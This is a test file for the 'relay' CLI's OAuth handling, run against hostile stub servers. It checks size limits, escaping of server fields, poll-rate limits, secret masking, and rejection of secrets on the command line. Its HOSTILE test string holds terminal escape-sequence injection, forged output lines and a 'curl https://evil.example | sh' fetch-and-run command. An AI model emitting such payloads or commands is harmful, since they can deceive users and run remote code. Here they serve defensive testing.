/**
 * What an authorization server or an OAuth agent sends cannot hurt, and a secret never goes on the
 * command line: the built CLI against hand-made hostile servers on loopback. Answers past the
 * 1 MiB limit are refused at every OAuth endpoint (token, discovery, device, revocation), the
 * device prompt shows the server's fields escaped, a device poll interval under a second is polled
 * once a second, an expires_in no date can hold is saved as no expiry, a 401 from an agent whose
 * card declares OAuth advises `relay auth login` with the card's flow, and `--client-secret VALUE`
 * is a usage error.
 * (The 800 MB answer is in test/stress/oauth.test.ts.)
 */
import * as Fs from "node:fs"
import * as Path from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { MAX_OAUTH_RESPONSE_BYTES } from "../../src/domain/limits.js"
import { runRelay } from "../helpers/cli.js"
import { tempHome } from "../helpers/stateHome.js"
import { type Progress, streamHugeJson } from "../peers/hugeAnswers.js"
import { reply, startStub, type Stub, type StubRoute, v1Card } from "../services/a2aClientHarness.js"

const home = tempHome()
const SECRET = "cmdline-secret-0123456789"
/** What a hostile server puts in every field it can: a clear screen, an OSC 8 link, forged lines. */
const HOSTILE =
  "\u001b[2J\u001b]8;;https://evil.example/\u0007click here\u001b]8;;\u0007\nerror: forged by the server\nhint: curl https://evil.example | sh"

let oauthServer: Stub
let machinesAgent: Stub
let oidcAgent: Stub
let plainAgent: Stub

const TWO_MIB = 2 * MAX_OAUTH_RESPONSE_BYTES
const ANNOUNCED = 64 * MAX_OAUTH_RESPONSE_BYTES
const huge = (head: string, tail: string, declareLength = false): StubRoute => (_request, res) => {
  const progress: Progress = { written: 0, cutShort: false }
  streamHugeJson(res, { head, tail, size: declareLength ? ANNOUNCED : TWO_MIB, declareLength }, progress)
  return undefined
}
const TOKEN_HEAD = "{\"token_type\":\"Bearer\",\"expires_in\":600,\"access_token\":\""
const hugeToken = (declareLength = false) => huge(TOKEN_HEAD, "\"}", declareLength)

const rpcInterface = (base: string) => [{ url: `${base}/rpc`, binding: "JSONRPC" as const, version: "1.0" }]
const withSchemes = (base: string, securitySchemes: Record<string, unknown>) => ({ ...v1Card(rpcInterface(base)), securitySchemes })
const refuseEverything: StubRoute = () => ({
  status: 401,
  headers: { "www-authenticate": "Bearer realm=\"agent\"" },
  body: { error: "unauthorized" }
})

beforeAll(async () => {
  ;[oauthServer, machinesAgent, oidcAgent, plainAgent] = await Promise.all([
    // An agent that is its own authorization server, a hostile one.
    startStub((base) => ({
      "GET /.well-known/agent-card.json": reply(withSchemes(base, {
        machines: { oauth2SecurityScheme: { flows: { clientCredentials: { tokenUrl: `${base}/huge-token`, scopes: {} } } } },
        announced: { oauth2SecurityScheme: { flows: { clientCredentials: { tokenUrl: `${base}/announced-token`, scopes: {} } } } },
        forever: { oauth2SecurityScheme: { flows: { clientCredentials: { tokenUrl: `${base}/forever-token`, scopes: {} } } } },
        echoing: { oauth2SecurityScheme: { flows: { clientCredentials: { tokenUrl: `${base}/echo-token`, scopes: {} } } } },
        device: {
          oauth2SecurityScheme: {
            flows: { deviceCode: { deviceAuthorizationUrl: `${base}/device`, tokenUrl: `${base}/token`, scopes: {} } }
          }
        },
        eager: {
          oauth2SecurityScheme: {
            flows: { deviceCode: { deviceAuthorizationUrl: `${base}/eager-device`, tokenUrl: `${base}/pending-token`, scopes: {} } }
          }
        },
        hugeDevice: {
          oauth2SecurityScheme: {
            flows: { deviceCode: { deviceAuthorizationUrl: `${base}/huge-device`, tokenUrl: `${base}/token`, scopes: {} } }
          }
        }
      })),
      "POST /huge-token": hugeToken(),
      "POST /announced-token": hugeToken(true),
      // A finite expires_in (openid-client takes it) whose end no date can hold.
      "POST /forever-token": reply({ token_type: "Bearer", access_token: "forever-token-0123456789", expires_in: 1e300 }),
      // Refuses the client, quoting the secret it was sent (in the Basic header or the body).
      "POST /echo-token": (request) => {
        const basic = /^Basic (.+)$/.exec(request.headers.authorization ?? "")?.[1]
        const sent = basic === undefined
          ? String((request.body as Record<string, unknown>)["client_secret"])
          : Buffer.from(basic, "base64").toString()
        return { status: 401, body: { error: "invalid_client", error_description: `wrong client secret: ${decodeURIComponent(sent)}` } }
      },
      "POST /device": reply({
        device_code: "device-code-1",
        user_code: `WDJB-MJHT${HOSTILE}`,
        verification_uri: `${base}/verify${HOSTILE}`,
        expires_in: 60,
        interval: 1
      }),
      // Asks to be polled every millisecond, and never approves.
      "POST /eager-device": reply({
        device_code: "device-code-2",
        user_code: "EAGER",
        verification_uri: `${base}/verify`,
        expires_in: 60,
        interval: 0.001
      }),
      "POST /pending-token": reply({ error: "authorization_pending" }, 400),
      "POST /huge-device": huge(
        "{\"device_code\":\"d\",\"user_code\":\"U\",\"verification_uri\":\"https://example.com/v\",\"expires_in\":60,\"pad\":\"",
        "\"}"
      ),
      "POST /token": reply({ error: "access_denied", error_description: HOSTILE }, 400),
      "GET /.well-known/openid-configuration": huge(
        "{\"issuer\":\"https://example.com\",\"token_endpoint\":\"https://example.com/token\",\"pad\":\"",
        "\"}"
      ),
      "POST /huge-revoke": huge("{\"pad\":\"", "\"}")
    })),
    startStub((base) => ({
      "GET /.well-known/agent-card.json": reply(withSchemes(base, {
        machines: { oauth2SecurityScheme: { flows: { clientCredentials: { tokenUrl: `${base}/token`, scopes: {} } } } }
      })),
      "POST /rpc": refuseEverything
    })),
    startStub((base) => ({
      "GET /.well-known/agent-card.json": reply(withSchemes(base, {
        people: { openIdConnectSecurityScheme: { openIdConnectUrl: `${base}/.well-known/openid-configuration` } }
      })),
      "POST /rpc": refuseEverything
    })),
    startStub((base) => ({
      "GET /.well-known/agent-card.json": reply(withSchemes(base, {
        token: { httpAuthSecurityScheme: { scheme: "Bearer" } }
      })),
      "POST /rpc": refuseEverything
    }))
  ])
})

afterAll(async () => {
  await Promise.allSettled([oauthServer, machinesAgent, oidcAgent, plainAgent].map((stub) => stub?.close()))
  home.cleanup()
})

const relay = (args: ReadonlyArray<string>, input = "") => runRelay(args, { stateDir: home.stateDir, input })
const login = (args: ReadonlyArray<string>) =>
  relay(["auth", "login", "--url", oauthServer.baseUrl, "--client-id", "relay-test", ...args], `${SECRET}\n`)
const errorOf = (stderr: string) =>
  (JSON.parse(stderr.slice(stderr.indexOf("{"))) as { error: { code: string; message: string; hint: string } }).error

describe("answers over the 1 MiB limit are refused at every OAuth endpoint", () => {
  it("a token response streamed past the limit (no Content-Length): oauth_response_too_large, exit 3", async () => {
    const result = await login(["--client-secret", "-", "--scheme", "machines", "--json"])
    expect(result.code, result.stderr).toBe(3)
    expect(errorOf(result.stderr)).toMatchObject({
      code: "oauth_response_too_large",
      message:
        `The authorization server at ${oauthServer.baseUrl}/huge-token sent an answer over the ${MAX_OAUTH_RESPONSE_BYTES}-byte limit; relay stopped reading it`
    })
    expect(Fs.existsSync(Path.join(home.stateDir, "sessions.json"))).toBe(false)
  })

  it("a token response whose Content-Length announces more is refused before it is read", async () => {
    const result = await login(["--client-secret", "-", "--scheme", "announced", "--json"])
    expect(result.code, result.stderr).toBe(3)
    expect(errorOf(result.stderr)).toMatchObject({
      code: "oauth_response_too_large",
      message: expect.stringContaining(`(${TOKEN_HEAD.length + ANNOUNCED + 2} bytes)`)
    })
  })

  it("discovery metadata past the limit", async () => {
    const result = await login(["--client-secret", "-", "--issuer", `${oauthServer.baseUrl}/.well-known/openid-configuration`, "--json"])
    expect(result.code, result.stderr).toBe(3)
    expect(errorOf(result.stderr)).toMatchObject({
      code: "oauth_response_too_large",
      message: expect.stringContaining("/.well-known/openid-configuration")
    })
  })

  it("a device authorization answer past the limit", async () => {
    const result = await login(["--flow", "device_code", "--scheme", "hugeDevice", "--json"])
    expect(result.code, result.stderr).toBe(3)
    expect(errorOf(result.stderr)).toMatchObject({ code: "oauth_response_too_large", message: expect.stringContaining("/huge-device") })
  })

  it("a revocation answer past the limit: logout warns and forgets the tokens anyway", async () => {
    const file = Path.join(home.stateDir, "sessions.json")
    Fs.mkdirSync(home.stateDir, { recursive: true, mode: 0o700 })
    const credentials = {
      kind: "oauth",
      flow: "client_credentials",
      access_token: "access-token-0123456789",
      scopes: [],
      issuer: oauthServer.baseUrl,
      token_endpoint: `${oauthServer.baseUrl}/token`,
      revocation_endpoint: `${oauthServer.baseUrl}/huge-revoke`,
      client_id: "relay-test"
    }
    Fs.writeFileSync(
      file,
      JSON.stringify({
        version: 2,
        sessions: { [oauthServer.baseUrl]: { agent_url: oauthServer.baseUrl, credentials, updated_at: new Date().toISOString() } }
      }),
      { mode: 0o600 }
    )
    const result = await relay(["auth", "logout", "--url", oauthServer.baseUrl])
    expect(result.code, result.stderr).toBe(0)
    expect(result.stdout).toContain(`Logged out of ${oauthServer.baseUrl}`)
    expect(result.stdout).not.toContain("revoked")
    expect(result.stderr).toContain(
      `Revocation failed: The authorization server at ${oauthServer.baseUrl}/huge-revoke sent an answer over the ${MAX_OAUTH_RESPONSE_BYTES}-byte limit`
    )
    expect(Fs.readFileSync(file, "utf8")).not.toContain("access-token-0123456789")
  })
})

describe("odd token responses", () => {
  it("an expires_in past the last date there is logs in, and the tokens are saved without an expiry", async () => {
    const result = await login(["--client-secret", "-", "--scheme", "forever", "--json"])
    expect(result.code, result.stderr).toBe(0)
    expect(JSON.parse(result.stdout)).toMatchObject({ agent_url: oauthServer.baseUrl, scheme: "forever", expires_at: null })
    const stored = Fs.readFileSync(Path.join(home.stateDir, "sessions.json"), "utf8")
    expect(stored).toContain("forever-token-0123456789")
    expect(stored).not.toContain("expires_at")
    expect((await relay(["auth", "logout", "--url", oauthServer.baseUrl])).code).toBe(0)
  })
})

describe("a server that quotes the secret it was sent", () => {
  it("has its refusal shown with the secret masked, in text and in --json", async () => {
    for (const json of [[], ["--json"]]) {
      const result = await login(["--client-secret", "-", "--scheme", "echoing", ...json])
      expect(result.code, result.stderr).toBe(3)
      expect(result.stderr).toContain("wrong client secret")
      expect(result.stderr).toContain("…6789")
      expect(result.stdout + result.stderr).not.toContain(SECRET)
    }
  })
})

describe("device code polling", () => {
  it("an interval under a second is taken as one second: the token endpoint is not hammered", async () => {
    const polls = () => oauthServer.requests.filter((request) => request.path === "/pending-token").length
    const before = polls()
    const result = await login(["--flow", "device_code", "--scheme", "eager", "--login-timeout", "3", "--json"])
    expect(result.code, result.stderr).toBe(3)
    expect(errorOf(result.stderr).code).toBe("oauth_timeout")
    // A poll each second at most, within the three seconds the login waited.
    expect(polls() - before).toBeGreaterThan(0)
    expect(polls() - before).toBeLessThanOrEqual(3)
  })
})

describe("nothing an authorization server sends reaches the terminal raw", () => {
  it("the device prompt and the refusal show the server's fields escaped: no escape, no link, no forged line", async () => {
    const result = await login(["--flow", "device_code", "--scheme", "device"])
    expect(result.code).toBe(3)
    // The prompt was shown (escaped) and the refusal reported.
    expect(result.stderr).toContain("and enter the code WDJB-MJHT\\u001b[2J\\u001b]8;;https://evil.example/\\u0007click here")
    expect(result.stderr).toMatch(/^error: The authorization server refused: access_denied/m)
    expect(result.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
    // A server's line breaks stay inside relay's own lines (indented in an error's text, escaped elsewhere).
    expect(result.stderr).not.toMatch(/^(error: forged|hint: curl)/m)
  })
})

describe("a 401 from an agent whose card declares OAuth advises logging in", () => {
  it("with the card's client credentials flow", async () => {
    const result = await relay(["message", "send", "--url", machinesAgent.baseUrl, "hello", "--json"])
    expect(result.code).toBe(3)
    const error = errorOf(result.stderr)
    expect(error.code).toBe("auth_required")
    expect(error.hint).toContain(`relay auth login --url ${machinesAgent.baseUrl} --client-id <CLIENT_ID> --client-secret -`)
    expect(error.hint).not.toContain("relay auth set")
  })

  it("with an OpenID Connect scheme, whose provider decides the flow: the command without a flow", async () => {
    const result = await relay(["task", "list", "--url", oidcAgent.baseUrl])
    expect(result.code).toBe(3)
    expect(result.stderr).toMatch(new RegExp(`^hint: .*relay auth login --url ${oidcAgent.baseUrl} --client-id <CLIENT_ID>\\.$`, "m"))
    expect(result.stderr).not.toContain("relay auth set")
  })

  it("an agent whose card declares no OAuth still gets the advice to save a token", async () => {
    const result = await relay(["message", "send", "--url", plainAgent.baseUrl, "hello", "--json"])
    expect(result.code).toBe(3)
    expect(errorOf(result.stderr).hint).toContain(`relay auth set --url ${plainAgent.baseUrl} --bearer-token <TOKEN>`)
  })
})

describe("--client-secret takes no value on the command line", () => {
  it("a value is a usage error (exit 2) that names stdin and the environment, and nothing is sent", async () => {
    const seen = oauthServer.requests.length
    const result = await relay(["auth", "login", "--url", oauthServer.baseUrl, "--client-id", "relay-test", "--client-secret", SECRET])
    expect(result.code).toBe(2)
    expect(result.stderr).toMatch(/^error: --client-secret takes no value on the command line/m)
    expect(result.stderr).toMatch(
      /^hint: Pass --client-secret - and type the secret on stdin, or set it in the RELAY_CLIENT_SECRET environment variable/m
    )
    expect(result.stderr + result.stdout).not.toContain(SECRET)
    expect(oauthServer.requests.length).toBe(seen)
  })

  it("also with --json: invalid_input", async () => {
    const result = await relay([
      "auth",
      "login",
      "--url",
      oauthServer.baseUrl,
      "--client-id",
      "relay-test",
      `--client-secret=${SECRET}`,
      "--json"
    ])
    expect(result.code).toBe(2)
    expect(errorOf(result.stderr).code).toBe("invalid_input")
    expect(result.stderr).not.toContain(SECRET)
  })
})
